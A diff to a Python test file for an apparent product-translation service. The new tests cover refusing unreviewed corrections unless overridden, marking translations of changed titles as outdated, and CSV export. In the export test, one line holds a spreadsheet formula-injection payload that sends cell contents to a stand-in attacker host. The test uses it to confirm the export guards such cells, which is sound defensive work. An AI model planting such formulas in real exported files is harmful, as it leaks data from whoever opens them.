@@ -120,6 +120,51 @@ def test_the_dashboard_correction_form_keeps_the_example_too(
     assert [c.label for c in corrections(db, "translation")] == ["Herz-Teelichthalter"]
 
 
+def test_a_correction_is_judged_like_the_engine_and_saved_failing_only_on_override(
+    shop: tuple[TestClient, Database],
+) -> None:
+    """A correction saved unchanged, or in English, became "reviewed" and the memory served it
+    as perfect (score 1.0): a walk. It gets the verdict; one needing review needs override."""
+    client, db = shop
+    url = "/v1/translations/85123A/de/title"
+    english = client.put(url, json={"text": ITEMS[0][1]}, headers=KEY)
+    assert english.status_code == 422 and english.json()["field"] == "text", english.text
+    assert "needs review" in english.json()["message"]
+    assert "override" in english.json()["message"]
+    assert corrections(db, "translation") == []  # nothing written
+    listed = client.get("/v1/translations", params={"sku": "85123A"}, headers=KEY).json()
+    assert listed["data"][0]["text"] == "WEISSER HAENGENDER HERZ"
+    kept = client.put(url, json={"text": ITEMS[0][1], "override": True}, headers=KEY)
+    assert kept.status_code == 200 and kept.json()["data"][0]["reviewed"], kept.text
+    # the page: refused with what was typed kept and the box to tick, then saved with it
+    post_form(client, "/login", data={"key": "test-key"})
+    form = {"language": "de", "text": "WHITE HEART HOLDER"}
+    page = post_form(client, "/products/85123A/translate/title", form)
+    assert page.status_code == 422 and "needs review" in page.text
+    assert "WHITE HEART HOLDER</textarea>" in page.text and 'name="override"' in page.text
+    done = post_form(client, "/products/85123A/translate/title", form | {"override": "true"},
+                     follow_redirects=False)  # fmt: skip
+    assert done.status_code == 303
+    assert [c.label for c in corrections(db, "translation")][-1] == "WHITE HEART HOLDER"
+
+
+def test_a_translation_of_an_earlier_title_is_shown_outdated(
+    shop: tuple[TestClient, Database],
+) -> None:
+    """The title changed after it was translated: the old translation was shown as current."""
+    client, _ = shop
+    before = client.get("/v1/translations", params={"sku": "85123A"}, headers=KEY).json()
+    assert before["data"][0]["outdated"] is False
+    changed = client.patch("/v1/products/85123A", json={"title": "RED HANGING STAR HOLDER"},
+                           headers=KEY)  # fmt: skip
+    assert changed.status_code == 200, changed.text
+    after = client.get("/v1/translations", params={"sku": "85123A"}, headers=KEY).json()
+    assert after["data"][0]["outdated"] is True
+    post_form(client, "/login", data={"key": "test-key"})
+    page = client.get("/products/85123A/translate", params={"language": "de"})
+    assert 'id="outdated-title"' in page.text and "translate it again" in page.text
+
+
 def test_an_edited_copy_draft_is_a_labelled_example(shop: tuple[TestClient, Database]) -> None:
     client, db = shop
     body = {"sku": "85123A", "kind": "description", "language": "en", "n": 1, "seed": 1}
@@ -186,7 +231,8 @@ def test_the_cli_exports_each_task(
     shop: tuple[TestClient, Database], db_url: str, tmp_path: Path
 ) -> None:
     client, db = shop
-    client.put("/v1/translations/85123A/de/title", json={"text": "Herz-Halter"}, headers=KEY)
+    fixed = {"text": "Weißer Teelichthalter in Herzform"}
+    client.put("/v1/translations/85123A/de/title", json=fixed, headers=KEY)
     body = {"sku": "85123A", "kind": "description", "language": "en", "n": 1, "seed": 1}
     (draft,) = client.post("/v1/copy", json=body, headers=KEY).json()["data"]
     client.patch(f"/v1/copy/{draft['id']}", json={"text": "A heart."}, headers=KEY)
@@ -195,7 +241,7 @@ def test_the_cli_exports_each_task(
                 headers=KEY)  # fmt: skip
     env = fake_env(tmp_path, database_url=db_url)
     expected = {
-        "translation": ("Herz-Halter", "translation.correct"),
+        "translation": ("Weißer Teelichthalter in Herzform", "translation.correct"),
         "copy": ("A heart.", "copy.edit"),
         "handoff": ("On it.", "support.reply"),
     }
@@ -206,7 +252,8 @@ def test_the_cli_exports_each_task(
         assert (row["label"], row["source"]) == (label, source) and row["predicted"], row
     # a cell a spreadsheet would run is guarded, as in the dashboard's file (an attack)
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    assert client.put("/v1/translations/85123A/de/title", json={"text": formula},
+    # (the verdict refuses it: saved with override, as a person who checked it would)
+    assert client.put("/v1/translations/85123A/de/title", json={"text": formula, "override": True},
                       headers=KEY).status_code == 200  # fmt: skip
     done = run("registry", "corrections", "translation", env=env)
     labels = [row["label"] for row in csv.DictReader(io.StringIO(done.stdout))]
